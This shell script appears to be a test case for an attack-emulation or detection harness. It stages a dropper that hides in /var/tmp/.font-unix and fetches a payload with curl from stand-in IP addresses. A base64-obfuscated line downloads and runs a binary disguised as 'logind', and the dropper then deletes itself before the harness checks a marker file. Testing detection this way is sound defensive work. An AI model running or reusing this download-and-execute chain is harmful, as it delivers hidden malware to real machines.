#!/bin/sh
. /opt/case/case.sh

cat >/tmp/one.sh <<'END'
export D=/var/tmp/.font-unix; mkdir -p $D
curl -fsS http://203.0.113.10/payload.sh >$D/two.sh
echo 'Y3VybCAtZnNTIGh0dHA6Ly8xOTguNTEuMTAwLjk6ODA4MC9wcm9ncmFtcy9tYXJrZXIgLW8gJEQvbG9naW5kICYmIGNobW9kICt4ICREL2xvZ2luZCAmJiAoY2QgJEQgJiYgLi9sb2dpbmQgL3RtcC9kb25lKQo=' | base64 -d >>$D/two.sh
sh $D/two.sh; rm -f $D/two.sh "$0"
END
sh /tmp/one.sh
test -e /tmp/done && test ! -e /tmp/one.sh
took_place
